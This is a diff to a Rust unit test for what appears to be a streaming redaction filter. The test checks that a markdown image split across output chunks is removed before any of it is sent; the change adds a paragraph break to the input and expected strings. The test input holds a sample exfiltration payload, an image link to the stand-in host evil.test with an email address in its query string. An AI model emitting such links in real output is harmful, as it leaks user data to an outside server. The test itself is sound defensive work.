@@ -343,7 +343,7 @@ mod tests {
     #[test]
     fn an_image_cut_between_two_chunks_is_taken_out_before_its_first_byte_leaves() {
         let rules = Compiled::embedded();
-        let told = "See ![x](https://evil.test/?q=ada@example.com) and [docs](https://docs.rs).";
+        let told = "See ![x](https://evil.test/?q=ada@example.com)\n\nand [docs](https://docs.rs).";
         let mut outlet = outlet(&rules);
         let mut said = String::new();
         for piece in told.split_inclusive(|_| true) {
@@ -355,7 +355,7 @@ mod tests {
         for part in parts(outlet.pass(chunk(Vec::new(), Some("STOP")))) {
             said.push_str(&part.judged_text());
         }
-        assert_eq!(said, "See ![x]([REDACTED:image]) and [docs](https://docs.rs).");
+        assert_eq!(said, "See ![x]([REDACTED:image])\n\nand [docs](https://docs.rs).");
         assert_eq!(
             outlet.found().into_iter().map(|(name, count)| (name.to_string(), count)).collect::<Vec<_>>(),
             [("image".into(), 1)]
